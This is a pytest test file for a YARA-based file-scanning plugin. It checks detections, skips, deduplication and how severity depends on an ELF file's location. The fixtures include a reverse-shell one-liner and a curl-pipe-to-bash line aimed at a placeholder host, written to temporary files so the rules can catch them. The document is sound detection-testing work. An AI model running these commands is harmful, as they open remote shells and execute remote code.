"""yara_scan, run in a real worker, on real files."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from agent_host.protocol import Finding
from agent_host.testing import file_event, run_plugin
from tests.helpers import agent_host

PLUGIN = Path(__file__).resolve().parents[2] / "agent_host" / "plugins" / "yara_scan"
EICAR = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


class TestYaraScan:
    """Known-bad content is found; ordinary content, vanished and oversized files are not."""

    def test_true_positives(self, tmp_path: Path) -> None:
        eicar = tmp_path / "eicar.com"
        eicar.write_text(EICAR)
        script = tmp_path / "backup.sh"
        script.write_text("#!/bin/sh\nbash -i >& /dev/tcp/10.9.8.7/4444 0>&1\n")
        dropper = tmp_path / "update.sh"
        dropper.write_text("#!/bin/sh\ncurl -s http://evil.example/x | bash\n")
        elf = tmp_path / "kworkerd"
        shutil.copy("/bin/true", elf)
        run = run_plugin(PLUGIN, [file_event(str(p)) for p in (eicar, script, dropper, elf)])
        assert [run.for_event(i)[0].rule for i in range(1, 4)] == [
            "yara.eicar_test_file",
            "yara.reverse_shell_one_liner",
            "yara.download_and_execute_script",
        ]
        assert [f.rule for f in run.for_event(4)] == (
            ["yara.elf_in_world_writable_folder"] if str(tmp_path).startswith("/tmp/") else []
        )
        assert run.for_event(1)[0].attributes["path"] == str(eicar)

    def test_true_negatives_and_skips(self, tmp_path: Path) -> None:
        notes = tmp_path / "notes.txt"
        notes.write_text("EICAR is a test file; bash is a shell; /dev/tcp is a bash feature\n")
        big = tmp_path / "big.bin"
        big.write_bytes(EICAR.encode() + b"\0" * (2 * 1024 * 1024))
        events = [
            file_event(str(notes)),
            file_event(str(tmp_path / "vanished")),
            file_event(str(big)),
            file_event(str(tmp_path), "CREATED"),
        ]
        run = run_plugin(PLUGIN, events, config={"max_file_mb": 1})
        assert run.findings == []
        assert run.stats.errors == 0
        assert run.stats.processed == 4

    def test_same_content_scanned_once(self, tmp_path: Path) -> None:
        eicar = tmp_path / "eicar.com"
        eicar.write_text(EICAR)
        run = run_plugin(PLUGIN, [file_event(str(eicar)), file_event(str(eicar), "MODIFIED")])
        assert run.rules() == ["yara.eicar_test_file"]


def test_files_gone_before_their_scan_are_counted_not_listed(tmp_path: Path) -> None:
    """The demo's synthetic files are gone before YARA gets to them: the operator's log says
    how many once, at the end, rather than a line a file."""
    run = agent_host(["run", "--source", "synthetic", "--duration", "3", "--quiet"], tmp_path)
    assert run.returncode == 0, run.stderr[-2000:]
    assert not [e for e in run.logs if str(e["event"]).startswith("not scanned (")]
    (said,) = [e for e in run.logs if str(e["event"]).startswith("files not scanned: ")]
    assert said["plugin"] == "yara_scan" and said["level"] == "info"


class TestContext:
    """An ELF that pip unpacked into a virtualenv under /tmp is a package's (INFO), not a
    dropped binary (HIGH); one a downloader wrote there, or one outside such a tree, or in a
    tree without the venv's pyvenv.cfg, stays HIGH."""

    def test_an_elf_in_a_venvs_package_tree_is_info_unless_downloaded(self, tmp_path: Path) -> None:
        if not str(tmp_path).startswith("/tmp/"):
            pytest.skip("the rule is about /tmp, and the test's folder is elsewhere")
        venv = tmp_path / "venv"
        site = venv / "lib" / "python3.11" / "site-packages" / "grpc" / "_cython"
        site.mkdir(parents=True)
        (venv / "pyvenv.cfg").write_text("home = /usr/bin\nversion = 3.11.7\n")
        packaged = site / "cygrpc.cpython-311-x86_64-linux-gnu.so"
        fake = tmp_path / "fake" / "lib" / "python3.11" / "site-packages" / "evil.so"
        fake.parent.mkdir(parents=True)  # the same tree, but no pyvenv.cfg at its root
        dropped = tmp_path / "kworkerd"
        downloaded = site / "helper.so"  # in the tree, but written by curl
        for elf in (packaged, fake, dropped, downloaded):
            shutil.copy("/bin/true", elf)
        events = [file_event(str(p)) for p in (packaged, fake, dropped, downloaded)]
        events[0].file.exe = f"{venv}/bin/python3"
        events[3].file.exe = "/usr/bin/curl"
        run = run_plugin(PLUGIN, events)
        got = [
            (f.event_ids[0], f.rule, f.severity, f.attributes.get("context", ""))
            for f in run.findings
        ]
        assert got == [
            (
                1,
                "yara.elf_in_world_writable_folder",
                Finding.INFO,
                f"inside the Python environment {venv}",
            ),
            (2, "yara.elf_in_world_writable_folder", Finding.HIGH, ""),
            (3, "yara.elf_in_world_writable_folder", Finding.HIGH, ""),
            (4, "yara.elf_in_world_writable_folder", Finding.HIGH, ""),
        ]
